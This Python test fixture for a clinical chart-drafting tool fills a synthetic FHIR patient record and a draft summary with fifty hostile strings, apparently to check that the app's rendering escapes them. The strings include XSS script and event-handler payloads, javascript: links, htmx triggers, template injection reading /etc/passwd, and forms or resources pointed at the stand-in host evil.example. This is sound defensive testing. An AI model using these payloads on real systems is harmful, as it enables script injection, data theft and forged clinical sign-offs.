"""Fifty ways in which text of a chart, or of whoever writes into one, would like to be more."""

import base64
import json
from pathlib import Path
from typing import Any

from chartside.draft import Author, Citation, Draft, Finding, RecordStamp, Section, Statement
from chartside.fhir.chart import Chart

AWAY = "https://evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example/ method=post><button>Sign</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=https://evil.example/>Sign</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=https://evil.example/ target=_top>Click to sign</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x.ogg autoplay>",
    "<body onload=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "![pixel](https://evil.example/x.png)",
    "[sign here](javascript:alert(1))",
    "{{ 7 * 7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}`${alert(1)}`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-post=/drafts/x/sign hx-trigger=load hx-vals='js:{a:alert(1)}'></div>",
    "<div hx-on::load=alert(1)></div>",
    "<div data-go=https://evil.example/ data-live=https://evil.example/></div>",
    "\u202e<script>alert(1)</script>\u202c",
    "<p style='position:fixed;inset:0;background:red'>Signed by Dr. Rao</p>",
)


def record(folder: Path) -> Path:
    """A record in which every text that is shown is one of them."""
    name = {"family": PAYLOADS[0], "given": [PAYLOADS[2]]}
    who: dict[str, Any] = {"resourceType": "Patient", "id": "1", "name": [name]}
    who |= {"birthDate": "1957-08-14", "gender": "female"}
    held: list[dict[str, Any]] = [who]
    subject = {"reference": "Patient/1"}
    for n, text in enumerate(PAYLOADS):
        common = {"subject": subject, "id": f"x{n}"}
        code = {"text": text}
        held.append({"resourceType": "Condition", **common, "code": code})
        value = {"valueString": text} if n % 2 else {"valueQuantity": {"value": n, "unit": text}}
        lab = [{"coding": [{"code": "laboratory"}]}]
        seen: dict[str, Any] = {"resourceType": "Observation", **common, "status": "final"}
        seen |= {"category": lab, "code": code, "effectiveDateTime": "2026-01-01", **value}
        held.append(seen)
        note: dict[str, Any] = {"resourceType": "DocumentReference", **common, "status": "current"}
        attached = {"contentType": "text/plain", "data": _base64(f"{text}\n{text}"), "title": text}
        note |= {"type": code, "description": text, "content": [{"attachment": attached}]}
        note |= {"author": [{"display": text}], "date": "2026-01-01T00:00:00Z"}
        held.append(note)
        study: dict[str, Any] = {"resourceType": "ImagingStudy", **common, "status": "available"}
        held.append(study | {"description": text, "started": "2026-01-01"})
    entries = [{"resource": one} for one in held]
    path = folder / "hostile.json"
    path.write_text(json.dumps({"resourceType": "Bundle", "type": "collection", "entry": entries}))
    return path


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def draft(chart: Chart) -> Draft:
    """A draft whose every title, sentence, reason, warning and author is one of them."""
    sections = tuple(
        Section(
            text,
            (
                Statement(
                    text,
                    (Citation(f"DocumentReference/x{n}", None, text, 0, len(text)),),
                    f"s{n}",
                    reasons=(text,),
                ),
            ),
        )
        for n, text in enumerate(PAYLOADS)
    )
    findings = tuple(
        Finding(text, text, citations=(Citation(f"Observation/x{n}"),))
        for n, text in enumerate(PAYLOADS)
    )
    stamp = RecordStamp(chart.digest, len(chart.entries), chart.as_of.isoformat())
    return Draft(
        id="hostile",
        kind="summary",
        patient=chart.patient.reference,
        author=Author(PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]),
        created="2026-01-01T00:00:00Z",
        record=stamp,
        sections=sections,
        conflicts=findings[::2],
        omissions=findings[1::2],
        set_aside=tuple(f"file: {text}" for text in PAYLOADS),
    )
